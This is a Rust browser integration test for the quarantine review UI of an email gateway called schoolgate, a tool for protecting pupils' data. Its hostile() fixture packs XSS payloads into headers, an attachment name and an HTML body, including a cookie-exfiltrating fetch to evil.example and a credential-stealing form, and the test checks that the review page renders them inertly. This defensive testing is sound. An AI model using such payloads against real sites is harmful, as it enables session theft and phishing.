//! The review UI in a real browser: `schoolgate review` as a process, Debian's
//! Chromium driven by Playwright (`tests/browser/review.mjs`) signs in,
//! filters, opens a hostile message and a risky one, releases the risky one
//! with a note, and does it again with JavaScript off. This side then checks
//! that the SMTP sink got exactly that one message and that the store
//! records the release by the DPO's account.
//!
//! Needs `/usr/bin/chromium`, `node` and `tests/browser/node_modules`
//! (`cd tests/browser && npm ci`). Without them the test says so and passes,
//! unless `SCHOOLGATE_REQUIRE_BROWSER=1` (as `.ci/run` sets), when it fails.
//! Screenshots: `target/browser-screenshots/review-list.png` and
//! `review-message.png`.

mod common;

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use schoolgate::quarantine::{NewHold, SqliteStore, Store};
use schoolgate::{Config, Engine, Envelope, RulePack};

use common::sink::Sink;

const CHROMIUM: &str = "/usr/bin/chromium";
const ACCOUNT: &str = "dpo";
const PASSWORD: &str = "browser-test passphrase 4821";
const RISKY_SENDER: &str = "m.patel@oakfield.sch.uk";
const RISKY_RECIPIENT: &str = "parent.of.amy@gmail.com";
const HOSTILE_SENDER: &str = "s.jenkins@oakfield.sch.uk";
/// How long the whole browser script may take before it is stopped.
const BROWSER_TIMEOUT: Duration = Duration::from_secs(240);

fn browser_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests").join("browser")
}

/// `target/browser-screenshots` (beside `target/tmp`, wherever the target dir is).
fn screenshot_dir() -> PathBuf {
    let tmp = Path::new(env!("CARGO_TARGET_TMPDIR"));
    tmp.parent().unwrap_or(tmp).join("browser-screenshots")
}

/// What this machine lacks to run the browser test, if anything.
fn missing_tools() -> Vec<String> {
    let mut missing = Vec::new();
    if !Path::new(CHROMIUM).exists() {
        missing.push(format!("{CHROMIUM} (apt-get install chromium)"));
    }
    let node = Command::new("node")
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    if !node.is_ok_and(|s| s.success()) {
        missing.push("node (apt-get install nodejs)".to_string());
    }
    if !browser_dir().join("node_modules/playwright-core/package.json").exists() {
        missing.push("tests/browser/node_modules/playwright-core (cd tests/browser && npm ci)".to_string());
    }
    missing
}

/// Kills the child (SIGTERM, then SIGKILL) when dropped, so a failing
/// assertion never leaves a server or a browser behind.
struct Reaped {
    child: Child,
    name: &'static str,
}

impl Reaped {
    fn pid(&self) -> i32 {
        self.child.id() as i32
    }

    /// Ask it to stop with SIGTERM; SIGKILL if it has not within `grace`.
    fn stop(&mut self, grace: Duration) -> Option<std::process::ExitStatus> {
        if let Ok(Some(status)) = self.child.try_wait() {
            return Some(status);
        }
        // SAFETY: kill(2) on our own child's pid, which has not been reaped yet.
        unsafe {
            libc::kill(self.pid(), libc::SIGTERM);
        }
        let start = Instant::now();
        while start.elapsed() < grace {
            if let Ok(Some(status)) = self.child.try_wait() {
                return Some(status);
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = self.child.kill();
        self.child.wait().ok()
    }
}

impl Drop for Reaped {
    fn drop(&mut self) {
        if self.stop(Duration::from_secs(5)).is_none() {
            eprintln!("browser test: could not stop {}", self.name);
        }
    }
}

fn now() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .expect("after 1970")
        .as_secs() as i64
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .expect("bind an ephemeral port")
        .local_addr()
        .expect("addr")
        .port()
}

fn risky() -> Vec<u8> {
    format!(
        "From: Mina Patel <{RISKY_SENDER}>\r\nTo: Amy's parent <{RISKY_RECIPIENT}>\r\nSubject: Amy's details for the form\r\nDate: Mon, 2 Nov 2026 09:00:00 +0000\r\nMessage-ID: <browser-risky@oakfield.sch.uk>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHello,\r\n\r\nAs asked, Amy's unique pupil number is B801200005001.\r\n\r\nMina Patel\r\n"
    )
    .into_bytes()
}

/// Everything a message can carry to make a page run script, fetch remote
/// content or restyle itself: in the subject (raw and RFC 2047), display
/// names, an attachment's name, and an HTML body.
fn hostile() -> Vec<u8> {
    let html = concat!(
        "<html><head>",
        "<base href=\"http://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/refresh\">",
        "<link rel=\"stylesheet\" href=\"http://evil.example/sheet.css\">",
        "<style>@import url(http://evil.example/import.css); body{background:url(http://evil.example/bg.png)} ",
        "main{display:none} pre::after{content:'Approved by the DPO'}</style>",
        "<script src=\"http://evil.example/remote.js\"></script>",
        "</head><body onload=\"alert('onload')\">",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:url(http://evil.example/overlay.png)\">overlay</div>",
        "<p>Hi, <a href=\"javascript:alert('link')\">click here</a> or ",
        "<a href=\"http://evil.example/phish\">sign in again</a>.</p>",
        "<img src=\"http://evil.example/track.gif\" width=\"1\" height=\"1\">",
        "<img src=\"x\" onerror=\"alert('img')\"><img src=\"cid:logo\">",
        "<svg onload=\"alert('svg')\"><image href=\"http://evil.example/svg.png\"/></svg>",
        "<iframe src=\"http://evil.example/frame\"></iframe>",
        "<object data=\"http://evil.example/object.swf\"></object>",
        "<form action=\"http://evil.example/steal\"><input name=\"password\"><button>Go</button></form>",
        "<script>fetch('http://evil.example/exfil?c='+document.cookie);alert('inline')</script>",
        "<p>The pupil's UPN is B801200005001.</p>",
        "</body></html>",
    );
    format!(
        "From: \"</td><script>alert('from')</script>\" <{HOSTILE_SENDER}>\r\n\
         To: \"<img src=http://evil.example/to.png onerror=alert('to')>\" <parent@gmail.com>\r\n\
         Cc: =?utf-8?q?=3Cscript=3Ealert=28=27cc=27=29=3C=2Fscript=3E?= <head@oakfield.sch.uk>\r\n\
         Subject: <script>document.location='http://evil.example/subject'</script> <a href=\"javascript:alert(1)\">UPN</a> B801200005001\r\n\
         Date: Mon, 2 Nov 2026 09:05:00 +0000\r\n\
         Message-ID: <browser-hostile@oakfield.sch.uk>\r\n\
         Content-Type: multipart/mixed; boundary=\"b1\"\r\n\
         \r\n\
         --b1\r\n\
         Content-Type: text/html; charset=utf-8\r\n\
         \r\n\
         {html}\r\n\
         --b1\r\n\
         Content-Type: text/csv; name=\"<img src=x onerror=alert(3)>.csv\"\r\n\
         Content-Disposition: attachment; filename=\"<img src=x onerror=alert(3)>.csv\"\r\n\
         \r\n\
         Name,UPN\r\nAmy Smith,B801200005001\r\n\
         --b1--\r\n"
    )
    .into_bytes()
}

fn config_text(dir: &Path, review_port: u16, sink_port: u16) -> String {
    let fixture = std::fs::read_to_string(common::fixtures().join("schoolgate.toml")).expect("fixture config");
    format!(
        "{fixture}\n[quarantine]\npath = \"{}\"\n[relay]\nreinject = \"127.0.0.1:{sink_port}\"\n\
         [review]\nlisten = \"127.0.0.1:{review_port}\"\nsecure_cookies = false\nsession_minutes = 30\nmax_failed_logins = 5\n",
        dir.join("q.sqlite").display()
    )
}

/// The DPO's account, made as an administrator would: `schoolgate users add`.
fn add_account(config: &Path) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_schoolgate"))
        .arg("--config")
        .arg(config)
        .args(["users", "add", ACCOUNT, "--role", "dpo", "--password-stdin"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run schoolgate users add");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(format!("{PASSWORD}\n").as_bytes())
        .expect("write the password");
    let output = child.wait_with_output().expect("users add finishes");
    assert!(
        output.status.success(),
        "schoolgate users add failed ({}):\n{}{}",
        output.status,
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
}

fn hold(
    store: &SqliteStore,
    engine: &Engine,
    sender: &str,
    recipients: &[&str],
    raw: Vec<u8>,
    queue_id: &str,
) -> String {
    let recipients: Vec<String> = recipients.iter().map(|r| r.to_string()).collect();
    let verdict = engine.inspect(
        &raw,
        &Envelope {
            sender: Some(sender.to_string()),
            recipients: recipients.clone(),
        },
    );
    store
        .hold(
            NewHold {
                queue_id: Some(queue_id.to_string()),
                sender: sender.to_string(),
                recipients,
                auth_user: None,
                message: raw,
                verdict,
            },
            now(),
        )
        .expect("hold")
}

/// Wait until something accepts connections on `port`, or the server exits.
fn wait_for_port(server: &mut Reaped, port: u16, log: &Path) {
    let start = Instant::now();
    loop {
        if TcpStream::connect_timeout(&([127, 0, 0, 1], port).into(), Duration::from_millis(200)).is_ok() {
            return;
        }
        if let Ok(Some(status)) = server.child.try_wait() {
            panic!(
                "schoolgate review exited ({status}) before listening:\n{}",
                std::fs::read_to_string(log).unwrap_or_default()
            );
        }
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "schoolgate review is not listening on 127.0.0.1:{port} after 30 s:\n{}",
            std::fs::read_to_string(log).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn review_ui_in_chromium() {
    let missing = missing_tools();
    if !missing.is_empty() {
        let what = missing.join(", ");
        if std::env::var("SCHOOLGATE_REQUIRE_BROWSER").is_ok_and(|v| v == "1") {
            panic!("SCHOOLGATE_REQUIRE_BROWSER=1 but the browser test cannot run: missing {what}");
        }
        eprintln!("SKIPPED review_ui_in_chromium: missing {what} (set SCHOOLGATE_REQUIRE_BROWSER=1 to fail instead)");
        return;
    }
    let started = Instant::now();

    let dir = tempfile::tempdir().expect("tempdir");
    let sink = Sink::start(0);
    let review_port = free_port();
    let text = config_text(dir.path(), review_port, sink.port);
    let config_path = dir.path().join("schoolgate.toml");
    std::fs::write(&config_path, &text).expect("write the config");
    let engine = Engine::new(
        Config::parse("schoolgate.toml", &text).expect("valid config"),
        RulePack::builtin(),
    );

    let store = SqliteStore::open(&dir.path().join("q.sqlite")).expect("open the store");
    add_account(&config_path);
    let risky_id = hold(&store, &engine, RISKY_SENDER, &[RISKY_RECIPIENT], risky(), "BRSK1");
    let hostile_id = hold(
        &store,
        &engine,
        HOSTILE_SENDER,
        &["parent@gmail.com"],
        hostile(),
        "BHST1",
    );

    let log_path = dir.path().join("review.log");
    let log = std::fs::File::create(&log_path).expect("log file");
    let mut server = Reaped {
        child: Command::new(env!("CARGO_BIN_EXE_schoolgate"))
            .arg("--config")
            .arg(&config_path)
            .args(["review", "--listen", &format!("127.0.0.1:{review_port}")])
            .stdin(Stdio::null())
            .stdout(log.try_clone().expect("log"))
            .stderr(log)
            .spawn()
            .expect("start schoolgate review"),
        name: "schoolgate review",
    };
    wait_for_port(&mut server, review_port, &log_path);

    let out_dir = screenshot_dir();
    std::fs::create_dir_all(&out_dir).expect("screenshot dir");
    for name in ["review-list.png", "review-message.png"] {
        let _ = std::fs::remove_file(out_dir.join(name));
    }
    let browser_started = Instant::now();
    let mut browser = Reaped {
        child: Command::new("node")
            .arg(browser_dir().join("review.mjs"))
            .current_dir(browser_dir())
            .env("BASE_URL", format!("http://127.0.0.1:{review_port}"))
            .env("USER", ACCOUNT)
            .env("PASSWORD", PASSWORD)
            .env("OUT_DIR", &out_dir)
            .env("HOSTILE_ID", &hostile_id)
            .env("RISKY_ID", &risky_id)
            .env("RISKY_SENDER", RISKY_SENDER)
            .env("CHROMIUM", CHROMIUM)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("run node tests/browser/review.mjs"),
        name: "node review.mjs",
    };
    // Read both pipes on threads so a chatty browser cannot block on a full pipe.
    let mut stdout = browser.child.stdout.take().expect("stdout");
    let mut stderr = browser.child.stderr.take().expect("stderr");
    let out_reader = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = stdout.read_to_string(&mut text);
        text
    });
    let err_reader = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = stderr.read_to_string(&mut text);
        text
    });
    let status = loop {
        if let Some(status) = browser.child.try_wait().expect("wait for node") {
            break Some(status);
        }
        if browser_started.elapsed() > BROWSER_TIMEOUT {
            browser.stop(Duration::from_secs(2));
            break None;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let (out, err) = (
        out_reader.join().unwrap_or_default(),
        err_reader.join().unwrap_or_default(),
    );
    let browser_time = browser_started.elapsed();
    eprintln!("{out}{err}");
    let server_log = || std::fs::read_to_string(&log_path).unwrap_or_default();
    match status {
        Some(status) if status.success() => {}
        Some(status) => panic!(
            "the browser test failed ({status}):\n{out}{err}\n--- schoolgate review's log ---\n{}",
            server_log()
        ),
        None => panic!(
            "the browser test took longer than {BROWSER_TIMEOUT:?} and was stopped:\n{out}{err}\n--- schoolgate review's log ---\n{}",
            server_log()
        ),
    }
    for name in ["review-list.png", "review-message.png"] {
        let path = out_dir.join(name);
        let size = std::fs::metadata(&path).map(|m| m.len()).unwrap_or(0);
        assert!(size > 1000, "no screenshot at {} ({size} bytes)", path.display());
    }

    // The relay got the released message, once, for its own recipients; the
    // hostile one stayed held.
    let delivered = sink.wait_for(Duration::from_secs(10), |m| !m.is_empty());
    std::thread::sleep(Duration::from_millis(300));
    let delivered = if delivered.len() == 1 {
        sink.messages()
    } else {
        delivered
    };
    assert_eq!(
        delivered.len(),
        1,
        "the sink should have exactly the released message: {:?}",
        delivered.iter().map(|d| (&d.sender, &d.recipients)).collect::<Vec<_>>()
    );
    assert_eq!(delivered[0].recipients, vec![RISKY_RECIPIENT.to_string()]);
    assert_eq!(delivered[0].sender, RISKY_SENDER);
    let released = String::from_utf8_lossy(&delivered[0].message);
    assert!(
        released.contains("Message-ID: <browser-risky@oakfield.sch.uk>"),
        "{released}"
    );

    // The store says who released it and why; viewing the hostile one was audited.
    let risky = store.get(&risky_id).expect("get").expect("the risky hold").summary;
    assert_eq!(risky.status.as_str(), "released");
    assert_eq!(risky.decided_by.as_deref(), Some(ACCOUNT));
    assert!(
        risky.note.as_deref().is_some_and(|n| n.contains("browser test")),
        "{:?}",
        risky.note
    );
    let hostile = store.get(&hostile_id).expect("get").expect("the hostile hold").summary;
    assert_eq!(hostile.status.as_str(), "held", "nobody decided the hostile message");
    let actions = |id: &str| -> Vec<(String, String)> {
        store
            .audit_for(id)
            .expect("audit")
            .into_iter()
            .map(|r| (r.actor, r.action))
            .collect()
    };
    assert!(
        actions(&risky_id).contains(&(ACCOUNT.to_string(), "release".to_string())),
        "{:?}",
        actions(&risky_id)
    );
    assert!(
        actions(&hostile_id).contains(&(ACCOUNT.to_string(), "view".to_string())),
        "{:?}",
        actions(&hostile_id)
    );

    let stopped = server.stop(Duration::from_secs(10));
    assert!(
        stopped.is_some_and(|s| s.success()),
        "schoolgate review should stop cleanly on SIGTERM: {stopped:?}\n{}",
        server_log()
    );
    eprintln!(
        "browser test: passed in {:.1} s (browser {:.1} s); screenshots in {}",
        started.elapsed().as_secs_f64(),
        browser_time.as_secs_f64(),
        out_dir.display()
    );
}
